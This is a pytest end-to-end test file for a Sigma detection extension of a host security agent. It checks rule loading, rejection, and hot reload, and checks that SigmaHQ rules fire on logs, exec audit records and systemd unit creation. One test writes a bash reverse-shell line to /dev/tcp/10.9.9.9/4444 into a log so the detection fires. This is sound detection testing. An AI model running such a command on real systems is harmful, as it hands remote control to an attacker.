"""The Sigma extension end to end: the real agent, the engine in its sandbox, rules staged by the agent
from the operator's files, a real exec on the test's tmpfs, the finding in findings.jsonl. And the
detection kinds: SigmaHQ's own rules (read from ../shared, never copied here) firing on a log line the
log sensor follows, on an exec's EXECVE audit record, and on a file created in a directory the audit
baseline watches."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.agent.helpers import scoped_config
from tests.engines.sigma.build import rule
from tests.engines.sigma.corpus import SIGMAHQ

from ringfence.agent import Agent, AgentError, Config, Console
from ringfence.agent._extensions import make_supervisor

pytestmark = pytest.mark.kernel

REPO = str(Path(__file__).resolve().parents[3])
SIGMA = "ringfence.sigma"
RULE_ID = "e2e0e2e0-0000-4000-8000-000000000001"


def probe_rule(marker: str) -> str:
    return rule(
        f"sel:\n  Image|endswith: /rf-sigma-probe\n  CommandLine|contains: '{marker}'\ncondition: sel",
        rule_id=RULE_ID,
    )


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    """The state dir goes here: the extension user must pass through it (pytest's dirs are 0700)."""
    d = Path(tempfile.mkdtemp(prefix="rf-sigma-", dir="/tmp"))
    d.chmod(0o755)
    yield d
    shutil.rmtree(d)


@pytest.fixture
def rules_dir() -> Iterator[Path]:
    """Where the operator keeps rules: root-only, so only the agent's staged copy can reach the engine."""
    d = Path(tempfile.mkdtemp(prefix="rf-sigma-rules-", dir="/tmp"))
    d.chmod(0o700)
    yield d
    shutil.rmtree(d)


@pytest.fixture
def agents() -> Iterator[list[Agent]]:
    started: list[Agent] = []
    yield started
    for agent in started:
        agent.stop()


def config_for(tmpfs: Path, shared_dir: Path, files: dict[str, Path]) -> Config:
    config = scoped_config(tmpfs, shared_dir / "state", extensions=(SIGMA,), import_paths=(REPO,))
    content = {SIGMA: {name: str(path) for name, path in files.items()}}
    # the operator's rules alone: these tests are about how content is loaded, replaced and refused
    # (the default pack has tests of its own, tests/agent/test_default_pack_e2e.py)
    return msgspec.structs.replace(
        config, extensions=msgspec.structs.replace(config.extensions, content=content, default_pack=False)
    )


def start(agents: list[Agent], config: Config) -> Agent:
    agent = Agent(config, console=Console(io.StringIO()), extensions=make_supervisor)
    agents.append(agent)
    agent.start()
    return agent


def _extension(agent: Agent) -> Any:
    return {e.id: e for e in agent.health().extensions}[SIGMA]


def _findings(agent: Agent, match: Callable[[dict], bool], timeout_s: float = 15) -> dict:
    path = Path(agent.state_dir) / "findings.jsonl"
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if path.exists():
            for line in path.read_text().splitlines():
                doc = json.loads(line)
                if match(doc):
                    return doc
        time.sleep(0.1)
    raise AssertionError(f"no matching finding in {path} within {timeout_s} s")


def _eventually(check: Callable[[], bool], timeout_s: float = 15) -> bool:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if check():
            return True
        time.sleep(0.2)
    return False


def _run_probe(tmpfs: Path, marker: str) -> Path:
    probe = tmpfs / "rf-sigma-probe"
    if not probe.exists():
        shutil.copy2("/bin/true", probe)
    subprocess.run([str(probe), marker], check=True, timeout=30)
    return probe


def _is_probe_finding(marker: str) -> Callable[[dict], bool]:
    def match(doc: dict) -> bool:
        info = doc["finding_info"]
        cmd = doc.get("evidences", [{}])[0].get("process", {}).get("cmd_line", "")
        return info.get("analytic", {}).get("name") == RULE_ID and marker in cmd

    return match


def test_exec_matching_a_rule_raises_a_finding_in_findings_jsonl(
    agents, tmpfs, shared_dir, rules_dir
) -> None:
    marker = f"--rf-{uuid.uuid4().hex[:12]}"
    (rules_dir / "probe.yml").write_text(probe_rule(marker))
    (rules_dir / "probe.yml").chmod(0o600)
    agent = start(agents, config_for(tmpfs, shared_dir, {"probe.yml": rules_dir / "probe.yml"}))
    ext = _extension(agent)
    assert ext.state == "running"
    with open(f"/proc/{ext.pid}/status") as f:
        status = dict(line.split(":", 1) for line in f.read().splitlines())
    assert status["Uid"].split()[0] != "0" and status["NoNewPrivs"].strip() == "1"  # sandboxed
    probe = _run_probe(tmpfs, marker)
    finding = _findings(agent, _is_probe_finding(marker))
    assert finding["class_uid"] == 2004
    assert finding["severity_id"] == 4  # level: high
    assert finding["finding_info"]["product"]["name"] == SIGMA
    assert "T1059.004" in finding["finding_info"]["desc"]
    assert finding["evidences"][0]["process"]["file"]["path"] == str(probe)


def test_bad_rule_files_beside_a_good_one_are_reported_and_the_good_one_runs(
    agents, tmpfs, shared_dir, rules_dir
) -> None:
    marker = f"--rf-{uuid.uuid4().hex[:12]}"
    (rules_dir / "probe.yml").write_text(probe_rule(marker))
    (rules_dir / "broken.yml").write_text("title: [broken\n")
    (rules_dir / "redos.yml").write_text(rule("sel:\n  CommandLine|re: '(a)\\1'\ncondition: sel"))
    (rules_dir / "unknown-field.yml").write_text(rule("sel:\n  NoSuchField: x\ncondition: sel"))
    # catastrophic for a backtracking engine on "aaaa...!", linear in re2
    (rules_dir / "slow.yml").write_text(rule("sel:\n  CommandLine|re: '(a+)+$'\ncondition: sel"))
    names = ("probe.yml", "broken.yml", "redos.yml", "unknown-field.yml", "slow.yml")
    files = {n: rules_dir / n for n in names}
    agent = start(agents, config_for(tmpfs, shared_dir, files))
    assert _eventually(lambda: "broken.yml" in _extension(agent).last_error)
    last_error = _extension(agent).last_error
    assert str(rules_dir / "broken.yml") in last_error  # the operator's path, not the staged copy
    assert "redos.yml" in last_error and "re2" in last_error
    assert "unknown-field.yml" not in last_error  # a warning: loaded, the field absent at run time
    assert _extension(agent).state == "running"
    subprocess.run(["/bin/true", "a" * 100_000 + "!"], check=True, timeout=30)
    _run_probe(tmpfs, marker)
    _findings(agent, _is_probe_finding(marker))  # the engine got through the long line and on to this
    assert _extension(agent).state == "running"


def test_rules_changed_while_running_take_effect_and_a_broken_version_keeps_the_last_good(
    agents, tmpfs, shared_dir, rules_dir
) -> None:
    marker = f"--rf-{uuid.uuid4().hex[:12]}"
    operator_file = rules_dir / "probe.yml"
    operator_file.write_text(probe_rule(marker))
    agent = start(agents, config_for(tmpfs, shared_dir, {"probe.yml": operator_file}))
    operator_file.write_text("title: [broken\n")
    assert _eventually(lambda: "rejected" in _extension(agent).last_error, timeout_s=20)
    assert str(operator_file) in _extension(agent).last_error
    _run_probe(tmpfs, marker + "-1")
    _findings(agent, _is_probe_finding(marker + "-1"))  # the last good rule is still in force
    other = f"--rf-{uuid.uuid4().hex[:12]}"
    operator_file.write_text(probe_rule(other))
    assert _eventually(lambda: _extension(agent).last_error == "", timeout_s=20)
    _run_probe(tmpfs, marker + "-2")
    _run_probe(tmpfs, other)
    _findings(agent, _is_probe_finding(other))
    path = Path(agent.state_dir) / "findings.jsonl"
    assert marker + "-2" not in path.read_text()  # the old rule is gone


def test_content_where_no_rule_loads_refuses_start_in_one_line(tmpfs, shared_dir, rules_dir) -> None:
    (rules_dir / "broken.yml").write_text("title: [broken\n")
    agent = Agent(
        config_for(tmpfs, shared_dir, {"broken.yml": rules_dir / "broken.yml"}),
        console=Console(io.StringIO()),
        extensions=make_supervisor,
    )
    with pytest.raises(AgentError) as raised:
        agent.start()
    message = str(raised.value)
    assert "\n" not in message
    assert f"{rules_dir / 'broken.yml'}:2: error: YAML" in message  # where the parser saw the end
    assert agent.supervisor is None


SIGMAHQ_LINUX = SIGMAHQ / "rules" / "linux"
DEV_TCP = ("6cc5fceb-9a71-4c23-aeeb-963abe0b279c", SIGMAHQ_LINUX / "builtin" / "lnx_susp_dev_tcp.yml")
USER_DISCOVERY = (
    "9a0d8ca0-2385-4020-b6c6-cb6153ca56f3",
    SIGMAHQ_LINUX / "auditd" / "execve" / "lnx_auditd_user_discovery.yml",
)
SYSTEMD_UNIT = (
    "1bac86ba-41aa-4f62-9d6b-405eac99b485",
    SIGMAHQ_LINUX / "auditd" / "path" / "lnx_auditd_systemd_service_creation.yml",
)
needs_sigmahq = pytest.mark.skipif(not SIGMAHQ_LINUX.is_dir(), reason="../shared/data/sigmahq is not there")


def detection_config(tmpfs: Path, shared_dir: Path, rules: list[Path], **sensors: Any) -> Config:
    config = config_for(tmpfs, shared_dir, {p.name: p for p in rules})
    return msgspec.structs.replace(config, sensors=msgspec.structs.replace(config.sensors, **sensors))


def _is_finding_of(rule_id: str, marker: str) -> Callable[[dict], bool]:
    """The rule's finding whose evidence (process, or the event it names) carries the marker."""

    def match(doc: dict) -> bool:
        return doc["finding_info"].get("analytic", {}).get("name") == rule_id and marker in json.dumps(doc)

    return match


def _is_rule(rule_id: str) -> Callable[[dict], bool]:
    return lambda doc: doc["finding_info"].get("analytic", {}).get("name") == rule_id


@needs_sigmahq
def test_sigmahq_keyword_rule_fires_on_a_line_appended_to_a_followed_log(agents, tmpfs, shared_dir) -> None:
    rule_id, path = DEV_TCP
    log = shared_dir / "syslog"
    log.write_text("Dec  2 06:00:00 h sshd[1]: an old line, before the agent\n")
    config = detection_config(
        tmpfs, shared_dir, [path], logs=True, log_files=(str(log),), log_source="files", audit_events=False
    )
    agent = start(agents, config)
    assert _extension(agent).state == "running"
    marker = uuid.uuid4().hex[:12]
    with log.open("a") as f:
        f.write(f"Dec  2 06:00:01 h bash[4242]: echo {marker}; bash -i >& /dev/tcp/10.9.9.9/4444 0>&1\n")
    finding = _findings(agent, _is_rule(rule_id))
    assert finding["severity_id"] == 3  # the rule's level: medium
    assert "lnx_susp_dev_tcp.yml" in finding["finding_info"]["desc"]
    uid = finding["finding_info"]["related_events"][0]["uid"]
    events = Path(agent.state_dir) / "events.jsonl"
    # the finding names the log line it came from
    assert _eventually(lambda: any(uid in x and marker in x for x in events.read_text().splitlines()))


@needs_sigmahq
def test_sigmahq_auditd_rule_fires_on_the_execve_record_of_a_real_exec(agents, tmpfs, shared_dir) -> None:
    rule_id, path = USER_DISCOVERY
    config = detection_config(tmpfs, shared_dir, [path], logs=False, audit_events=True, audit_events_all=True)
    agent = start(agents, config)
    marker = f"rf-{uuid.uuid4().hex[:12]}"
    # whoami refuses the operand, after the exec: its EXECVE record still says a0=whoami a1=<marker>
    subprocess.run(["whoami", marker], capture_output=True, timeout=30, check=False)
    finding = _findings(agent, _is_finding_of(rule_id, marker))
    assert finding["severity_id"] == 2  # level: low
    assert "T1033" in finding["finding_info"]["desc"]


@needs_sigmahq
def test_sigmahq_auditd_rule_fires_on_a_unit_file_created_under_the_audit_baselines_watch(
    agents, tmpfs, shared_dir
) -> None:
    rule_id, path = SYSTEMD_UNIT
    config = detection_config(
        tmpfs, shared_dir, [path], logs=False, audit_events=True, audit_baseline=True, audit_baseline_off=()
    )  # the write watches too: off by default
    agent = start(agents, config)
    marker = f"rf-sigma-e2e-{uuid.uuid4().hex[:12]}"
    unit = Path("/etc/systemd/system") / f"{marker}.not-a-unit"
    try:
        subprocess.run(["touch", str(unit)], check=True, timeout=30)
        finding = _findings(agent, _is_finding_of(rule_id, marker))
    finally:
        unit.unlink(missing_ok=True)
    assert finding["severity_id"] == 3  # level: medium
    assert "T1543.002" in finding["finding_info"]["desc"]
    assert finding["evidences"][0]["file"]["path"] == str(unit)  # the PATH record's name
